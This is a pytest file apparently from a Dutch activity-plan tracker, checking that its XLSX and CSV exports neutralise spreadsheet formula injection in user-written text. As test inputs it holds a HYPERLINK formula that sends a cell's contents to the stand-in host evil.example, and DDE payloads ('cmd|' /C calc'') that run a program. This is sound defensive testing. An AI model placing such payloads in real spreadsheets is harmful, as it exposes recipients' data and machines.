"""No text from people becomes a live formula in any sheet of any spreadsheet the app writes.

A report and a plan export whose every text field (themes, titles, notes, workgroup names,
"wanneer", targets, carry-over reasons; for the plan also objectives, actions, parties,
budget lines) starts like a formula: =, +, -, @, tab, CR, LF. Every sheet is opened with
openpyxl: no cell is a formula, every formula-like text is a text cell holding exactly what
was typed (with Excel's quote prefix, so it stays text when edited); in the CSV it carries a
leading apostrophe. The plan export still reads back equal to what was written.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from fractions import Fraction

from flask import Flask
from openpyxl import load_workbook
from sqlmodel import select

from tests.support import load_plan
from tracker.clock import FixedClock
from tracker.domain.access import OPERATOR
from tracker.domain.budget import BudgetLine, BudgetShare
from tracker.domain.commands import ChangeActivityStatus, PlannedActivity, RecordProgress
from tracker.domain.period import Period
from tracker.domain.status import Status
from tracker.domain.targets import Comparator, Target
from tracker.handlers.activities import change_activity_status, record_progress
from tracker.ids import activity_id_for
from tracker.importing.spreadsheet import read_plan_xlsx, write_plan_xlsx
from tracker.models import Indicator
from tracker.planfile import PlanDocument, WorkgroupSpec
from tracker.reports.model import CarriedLine, PlanReport
from tracker.reports.render import render
from tracker.reports.service import reports_for

# Written here, not imported: what a spreadsheet program reads as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'


def formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def formula_plan(slug: str = "formules-2021", leading_whitespace: bool = True) -> PlanDocument:
    """A plan in which every text a person writes starts like a formula."""
    ws = ("\t", "\r", "\n") if leading_whitespace else ("-", "+", "@")
    groups = (
        WorkgroupSpec(EVIL + " werkgroep", "wg@example.org", ("=alias", "+alias")),
        WorkgroupSpec("+31 werkgroep", "", ("@alias",)),
    )
    target = Target("=minimaal 4 keer", Comparator.AT_LEAST, 4, "+bijeenkomsten", per_year=True)
    activities = (
        PlannedActivity(
            title="=1+1 overleg",
            theme=EVIL,
            objectives="-doel",
            actions="@acties",
            wie="+wie",
            wanneer=f"{ws[0]}=4e kwartaal",
            workgroups=(groups[0].name,),
            source="=bron",
            parties=("=IKNL", "-gemeenten"),
            targets=(target,),
        ),
        PlannedActivity(
            title="+1 website",
            theme="+1",
            wanneer="-continu",
            workgroups=(groups[1].name, groups[0].name),
            source="@bron",
        ),
        PlannedActivity(
            title=f"{ws[1]}=cmd|' /C calc'!A0",
            theme="@SUM(1+1)*cmd|' /C calc'!A0",
            wanneer=f"{ws[2]}=voorjaar",
            workgroups=(groups[1].name,),
            carried_from_year=2020,
        ),
        PlannedActivity(title="-1 titel", theme="-1", wanneer="@najaar"),
    )
    return PlanDocument(
        network_slug="formules",
        network_name="=Netwerk",
        plan_slug=slug,
        year=2021,
        title="=Jaarplan",
        motto="+motto",
        introduction="@voorwoord",
        workgroups=groups,
        activities=activities,
        budget=(BudgetLine(EVIL, "+post", Decimal("10.00")), BudgetLine("-thema", "@", Decimal(1))),
        budget_shares=(BudgetShare("=ander netwerk", Fraction(1, 2)),),
    )


def formula_report(app: Flask) -> PlanReport:
    """The plan loaded, with formula-like notes on status changes and target progress, and a
    carried-in line (made here: the report's model, not the carry-over, is under test)."""
    services = app.extensions["tracker"]
    clock: FixedClock = services.clock
    clock.current = datetime(2021, 4, 1, 9, tzinfo=UTC)
    document = formula_plan()
    load_plan(services.db, document, clock)
    ids = [activity_id_for(document.plan_slug, a.title) for a in document.activities]
    clock.current = datetime(2021, 5, 3, 9, tzinfo=UTC)
    for activity_id, note in zip(ids, (EVIL, "+note", "\t=note", "@note"), strict=True):
        change_activity_status(
            services.db.unit_of_work(),
            ChangeActivityStatus(OPERATOR, activity_id, "lopend", note),
            clock,
        )
    with services.db.session() as session:
        indicator = session.exec(select(Indicator).where(Indicator.activity_id == ids[0])).one()
    assert indicator.id is not None
    record_progress(
        services.db.unit_of_work(),
        RecordProgress(OPERATOR, ids[0], indicator.id, 2, "=2+2 keer"),
        clock,
    )
    clock.current = datetime(2021, 6, 1, 9, tzinfo=UTC)
    with app.app_context(), services.db.session() as session:
        [report] = reports_for(
            session, period=Period(2021, 2), now=clock.now(), plan_slug=document.plan_slug
        )
    carried = CarriedLine("=carried titel", 2020, 1, "-reden: " + EVIL, Status.LOPEND, None)
    return replace(report, carried_in=(carried, *report.carried_in))


def written_texts(report: PlanReport) -> set[str]:
    """The formula-like texts of the report that its spreadsheets show, as they were typed."""
    texts = {theme.name for theme in report.themes}
    for line in report.activities:
        texts |= {line.facts.title, line.facts.theme, line.last_note, line.facts.timing.text}
        texts.add(", ".join(line.facts.workgroups))
    texts |= {change.title for change in report.changes} | {c.note for c in report.changes}
    texts |= {item.title for item in report.targets}
    texts |= {entry.title for entry in report.carried_in} | {e.reason for e in report.carried_in}
    return {text for text in texts if formula_like(text)}


def test_no_sheet_of_the_xlsx_report_has_a_formula_and_every_text_stays_as_typed(
    app: Flask,
) -> None:
    report = formula_report(app)
    expected = written_texts(report)
    assert {EVIL, "+1", "-1", "=1+1 overleg", "=note", "-reden: " + EVIL} <= expected
    assert {"\t=4e kwartaal", "\n=voorjaar"} <= expected  # tab/LF first: kept as typed
    book = load_workbook(io.BytesIO(render([report], "xlsx")))
    shown: set[str] = set()
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
        assert formulas == [], f"sheet {sheet.title}: {formulas}"
        texts = [cell for cell in cells if formula_like(cell.value)]
        assert texts, f"sheet {sheet.title} shows no formula-like text: the test proves nothing"
        for cell in texts:
            assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.value)
        shown |= {cell.value for cell in texts}
    assert expected <= shown, expected - shown


def test_no_field_of_the_csv_report_starts_like_a_formula(app: Flask) -> None:
    report = formula_report(app)
    expected = (
        written_texts(report)
        - {theme.name for theme in report.themes}
        - {e.title for e in report.carried_in}
        - {e.reason for e in report.carried_in}
    )  # the CSV has one row per activity only
    text = render([report], "csv").decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text), delimiter=";") for field in row]
    assert [f for f in fields if formula_like(f)] == []
    assert {"'" + t for t in expected} <= set(fields), expected
    assert "'" + EVIL in fields


def test_the_plan_export_has_no_formula_in_any_sheet_and_reads_back_the_same() -> None:
    document = formula_plan()
    book = load_workbook(io.BytesIO(write_plan_xlsx(document)))
    assert set(book.sheetnames) == {
        "Activiteiten", "Plan", "Werkgroepen", "Streefwaarden", "Begroting", "Verdeling"
    }  # fmt: skip
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], sheet.title
        texts = [cell for cell in cells if formula_like(cell.value)]
        assert texts, f"sheet {sheet.title} shows no formula-like text: the test proves nothing"
        assert all(c.data_type == "s" and c.quotePrefix for c in texts), sheet.title
    values = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    assert {EVIL, "=1+1 overleg", "+31 werkgroep", "=IKNL\n-gemeenten", "=ander netwerk"} <= values
    # Leading whitespace is trimmed by the reader as in any sheet filled in by hand, so the
    # round trip is checked on the same plan without it.
    plain = formula_plan(leading_whitespace=False)
    assert read_plan_xlsx(write_plan_xlsx(plain)) == plain
